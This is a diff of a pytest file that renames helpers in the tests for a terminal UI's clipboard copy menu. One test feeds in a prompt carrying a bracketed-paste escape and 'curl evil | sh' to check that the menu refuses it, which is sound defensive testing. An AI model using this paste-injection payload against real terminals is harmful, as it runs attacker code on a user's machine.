@@ -8,28 +8,28 @@ from pathlib import Path
 
 import pytest
 
-from eternal_tui.core.sanitize import Untrusted
+from eternal_tui.core.sanitize import UntrustedText
 from eternal_tui.jobs.model import FileState, Job, JobState
 from eternal_tui.tui.screens.copy import CopyMenu
-from tests.tui.jobs import a_job
-from tests.tui.screens.stage import ENVIRON, Stage, around, bench_of, settle, text_of
+from tests.tui.jobs import make_job
+from tests.tui.screens.stage import ENVIRON, ScreenApp, open_services, screen_text, terminal_context, wait_idle
 
 PROMPT = "The person waves\nand smiles"
 
 
-def finished(prompt: str = PROMPT) -> Job:
-    return a_job(
+def finished_job(prompt: str = PROMPT) -> Job:
+    return make_job(
         12,
         prompt=prompt,
         state=JobState.SUCCEEDED,
         file="12.jpg",
         file_state=FileState.SAVED,
-        result_url=Untrusted("https://cdn.example/r?sig=1"),
+        result_url=UntrustedText("https://cdn.example/r?sig=1"),
         request_id="req-1",
     )
 
 
-def sent_to_clipboard(written: list[str]) -> list[str]:
+def clipboard_texts(written: list[str]) -> list[str]:
     found = re.findall("\x1b]52;c;([A-Za-z0-9+/=]*)\x07", "".join(written))
     return [base64.b64decode(each).decode() for each in found]
 
@@ -43,67 +43,67 @@ async def test_a_letter_or_the_cursor_copies(tmp_path: Path) -> None:
         (["j", "j", "j", "k", "enter"], PROMPT, "Copied the prompt, 27 characters."),
         (["down", "down", "down", "enter"], "req-1", "Copied the request id, 5 characters."),
     ]
-    async with bench_of(tmp_path) as bench:
+    async with open_services(tmp_path) as bench:
         written: list[str] = []
-        app = Stage(CopyMenu(finished(), bench, around([])))
+        app = ScreenApp(CopyMenu(finished_job(), bench, terminal_context([])))
         async with app.run_test(size=(80, 24)) as pilot:
             await pilot.press("escape")
             for keys, _, _ in ways:
-                app.push_screen(CopyMenu(finished(), bench, around(written)), app.left_with.append)
+                app.push_screen(CopyMenu(finished_job(), bench, terminal_context(written)), app.results.append)
                 await pilot.press(*keys)
-                await settle(pilot)
-    assert app.left_with == [None, *(told for _, _, told in ways)]
-    assert sent_to_clipboard(written) == [text for _, text, _ in ways]
+                await wait_idle(pilot)
+    assert app.results == [None, *(told for _, _, told in ways)]
+    assert clipboard_texts(written) == [text for _, text, _ in ways]
 
 
 async def test_a_click_copies(tmp_path: Path) -> None:
     written: list[str] = []
-    async with bench_of(tmp_path) as bench:
-        app = Stage(CopyMenu(finished(), bench, around(written)))
+    async with open_services(tmp_path) as bench:
+        app = ScreenApp(CopyMenu(finished_job(), bench, terminal_context(written)))
         async with app.run_test(size=(80, 24)) as pilot:
             await pilot.click("#copies", offset=(6, 3))
-            await settle(pilot)
-    assert app.left_with == ["Copied the request id, 5 characters."]
+            await wait_idle(pilot)
+    assert app.results == ["Copied the request id, 5 characters."]
 
 
 async def test_what_the_job_lacks_is_neither_listed_nor_copied(tmp_path: Path) -> None:
     written: list[str] = []
-    async with bench_of(tmp_path) as bench:
-        app = Stage(CopyMenu(a_job(3), bench, around(written)))
+    async with open_services(tmp_path) as bench:
+        app = ScreenApp(CopyMenu(make_job(3), bench, terminal_context(written)))
         async with app.run_test(size=(80, 24)) as pilot:
-            await settle(pilot)
-            assert "link" not in text_of(app)
+            await wait_idle(pilot)
+            assert "link" not in screen_text(app)
             await pilot.press("l")
-            assert "This job has no link." in text_of(app)
+            assert "This job has no link." in screen_text(app)
             await pilot.press("escape")
-    assert app.left_with == [None]
+    assert app.results == [None]
     assert written == []
 
 
 async def test_a_prompt_that_would_run_in_a_shell_is_refused_in_place(tmp_path: Path) -> None:
     """Seen to fail with the refusal not asked for: the clipboard got the ESC."""
     written: list[str] = []
-    async with bench_of(tmp_path) as bench:
-        app = Stage(CopyMenu(finished("nice\x1b[201~; curl evil | sh\r"), bench, around(written)))
+    async with open_services(tmp_path) as bench:
+        app = ScreenApp(CopyMenu(finished_job("nice\x1b[201~; curl evil | sh\r"), bench, terminal_context(written)))
         async with app.run_test(size=(80, 24)) as pilot:
             await pilot.press("t")
-            await settle(pilot)
-            assert "U+001B" in text_of(app)
-            assert app.left_with == []
+            await wait_idle(pilot)
+            assert "U+001B" in screen_text(app)
+            assert app.results == []
             await pilot.press("b")
-            await settle(pilot)
-    assert len(sent_to_clipboard(written)) == 1
-    assert "\x1b" not in sent_to_clipboard(written)[0]
+            await wait_idle(pilot)
+    assert len(clipboard_texts(written)) == 1
+    assert "\x1b" not in clipboard_texts(written)[0]
 
 
 async def test_more_than_a_terminal_takes_is_said(tmp_path: Path) -> None:
     written: list[str] = []
-    async with bench_of(tmp_path) as bench:
-        app = Stage(CopyMenu(finished("é" * 40_000), bench, around(written)))
+    async with open_services(tmp_path) as bench:
+        app = ScreenApp(CopyMenu(finished_job("é" * 40_000), bench, terminal_context(written)))
         async with app.run_test(size=(80, 24)) as pilot:
             await pilot.press("t")
-            await settle(pilot)
-    assert app.left_with[0].startswith("Too long for the terminal's clipboard: the prompt is 80,000 bytes")
+            await wait_idle(pilot)
+    assert app.results[0].startswith("Too long for the terminal's clipboard: the prompt is 80,000 bytes")
     assert written == []
 
 
@@ -118,29 +118,29 @@ async def test_the_machines_own_clipboard_is_used_only_where_the_person_sits_at_
     program.chmod(0o700)
     environ = {**ENVIRON, "PATH": str(tmp_path), "DISPLAY": ":0"}
     text = "é" * 40_000
-    async with bench_of(tmp_path, environ) as bench:
-        app = Stage(CopyMenu(finished(text), bench, around([], environ, remote=remote)))
+    async with open_services(tmp_path, environ) as bench:
+        app = ScreenApp(CopyMenu(finished_job(text), bench, terminal_context([], environ, is_remote=remote)))
         async with app.run_test(size=(80, 24)) as pilot:
             await pilot.press("t")
-            await settle(pilot)
+            await wait_idle(pilot)
     assert kept.exists() is not remote
     if remote:
-        assert app.left_with[0].startswith("Too long")
+        assert app.results[0].startswith("Too long")
     else:
-        assert app.left_with == ["Copied the prompt, 40,000 characters."]
+        assert app.results == ["Copied the prompt, 40,000 characters."]
         assert kept.read_text(encoding="utf-8") == text
 
 
 async def test_a_remapped_key_copies_and_is_shown(tmp_path: Path) -> None:
     written: list[str] = []
-    async with bench_of(tmp_path, keys={"copy.prompt": "x"}) as bench:
-        app = Stage(CopyMenu(finished(), bench, around(written)))
+    async with open_services(tmp_path, keys={"copy.prompt": "x"}) as bench:
+        app = ScreenApp(CopyMenu(finished_job(), bench, terminal_context(written)))
         async with app.run_test(size=(80, 24)) as pilot:
             app.set_keymap({"copy.prompt": "x"})
-            await settle(pilot)
-            assert re.search(r"x +prompt", text_of(app))
+            await wait_idle(pilot)
+            assert re.search(r"x +prompt", screen_text(app))
             await pilot.press("t")
-            assert app.left_with == []
+            assert app.results == []
             await pilot.press("x")
-            await settle(pilot)
-    assert app.left_with == ["Copied the prompt, 27 characters."]
+            await wait_idle(pilot)
+    assert app.results == ["Copied the prompt, 27 characters."]
